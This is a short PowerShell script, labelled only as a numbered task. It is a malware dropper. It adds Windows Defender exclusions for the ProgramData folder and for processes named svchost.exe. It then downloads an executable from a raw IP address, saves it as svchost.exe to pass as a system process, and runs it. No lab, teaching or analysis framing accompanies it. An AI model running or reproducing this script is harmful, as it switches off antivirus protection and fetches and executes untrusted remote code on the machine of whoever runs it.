# task 9733 v2
Add-MpPreference -ExclusionPath $env:ProgramData
Add-MpPreference -ExclusionProcess 'svchost.exe'
iwr http://203.0.113.17/svchost.exe -OutFile $env:ProgramData\svchost.exe
& $env:ProgramData\svchost.exe
